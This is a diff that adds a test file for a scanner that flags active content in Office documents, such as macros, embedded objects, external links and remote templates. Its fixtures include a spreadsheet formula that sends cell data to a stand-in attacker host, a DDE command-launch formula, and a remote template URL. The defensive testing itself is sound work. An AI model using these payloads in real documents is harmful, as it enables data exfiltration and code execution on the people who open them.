@@ -1,0 +1,68 @@
+import ExcelJS from "exceljs";
+import { describe, expect, it } from "vitest";
+import { findActiveContent } from "./active-content.js";
+import { sampleDocx, sampleXlsx, sampleZip } from "./samples.test-support.js";
+
+const xlsxWith = async (edit: (sheet: ExcelJS.Worksheet) => void) => {
+  const workbook = new ExcelJS.Workbook();
+  edit(workbook.addWorksheet("Số liệu"));
+  return Buffer.from(await workbook.xlsx.writeBuffer());
+};
+
+describe("findActiveContent", () => {
+  it("finds nothing in plain documents", async () => {
+    expect(await findActiveContent(sampleDocx())).toEqual([]);
+    expect(await findActiveContent(sampleXlsx())).toEqual([]);
+    const plain = await xlsxWith((sheet) => {
+      sheet.getCell("A1").value = 12;
+      sheet.getCell("A2").value = { formula: "SUM(A1:A1)" };
+      sheet.getCell("B1").value = "Tổng | hợp"; // a bar in text is not a formula
+    });
+    expect(await findActiveContent(plain)).toEqual([]);
+  });
+
+  it("finds network and DDE formulas in a real workbook", async () => {
+    const web = await xlsxWith((sheet) => {
+      sheet.getCell("A1").value = { formula: 'WEBSERVICE("http://attacker.example/?q="&B1)' };
+    });
+    expect(await findActiveContent(web)).toEqual([expect.stringContaining("WEBSERVICE")]);
+    const dde = await xlsxWith((sheet) => {
+      sheet.getCell("A1").value = { formula: "cmd|' /C calc'!A0" };
+    });
+    expect(await findActiveContent(dde)).toEqual([expect.stringContaining("DDE")]);
+  });
+
+  it("finds macros, external links, remote templates, embedded objects and stray files", async () => {
+    const findings = await findActiveContent(
+      sampleZip({
+        "[Content_Types].xml": "<Types/>",
+        "word/document.xml": "<w:document/>",
+        "word/vbaProject.bin": "macro",
+        "word/embeddings/oleObject1.bin": "ole",
+        "word/_rels/settings.xml.rels":
+          '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
+        "payload.exe": "MZ",
+      }),
+    );
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        "có macro (VBA)",
+        "có đối tượng nhúng (OLE) từ chương trình khác",
+        "có liên kết tự tải nội dung từ bên ngoài khi mở",
+        "có liên kết tới sổ làm việc bên ngoài",
+        "có tệp lạ trong tài liệu (“payload.exe”)",
+      ]),
+    );
+  });
+
+  it("leaves an ordinary hyperlink alone", async () => {
+    const doc = sampleZip({
+      "[Content_Types].xml": "<Types/>",
+      "word/document.xml": "<w:document/>",
+      "word/_rels/document.xml.rels":
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://monre.gov.vn" TargetMode="External"/></Relationships>',
+    });
+    expect(await findActiveContent(doc)).toEqual([]);
+  });
+});
